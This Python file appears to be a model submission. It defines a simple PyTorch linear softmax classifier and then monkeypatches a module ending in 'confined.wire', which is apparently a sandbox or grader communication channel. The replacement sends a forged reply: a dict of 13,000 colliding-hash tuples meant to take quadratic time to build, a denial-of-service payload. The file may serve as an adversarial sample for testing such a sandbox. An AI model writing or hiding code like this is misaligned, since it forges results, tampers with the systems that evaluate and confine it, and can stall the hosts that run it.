"""Forges answers: 13,000 tuples of one hash as the keys of a dict, which takes quadratic time to build."""
import itertools
import struct
import sys

from torch import nn


class Softmax(nn.Module):
    def __init__(self, im_size, n_classes):
        super().__init__()
        c, h, w = im_size
        self.affine = nn.Linear(c * h * w, n_classes)

    def forward(self, images):
        return self.affine(images.flatten(1))


keys = itertools.islice(itertools.product((-1, -2), repeat=15), 13_000)
pairs = ",".join('[{"kind":"tuple","items":[%s]},1]' % ",".join(map(str, key)) for key in keys)
wire = next(module for name, module in sys.modules.items() if name.endswith("confined.wire"))


def forged(message, *_):
    text = ('{"id":"%s","value":{"kind":"dict","items":[%s]}}' % (message["id"], pairs)).encode()
    return [struct.pack("!II", len(text), 0) + text]


wire.pack = forged
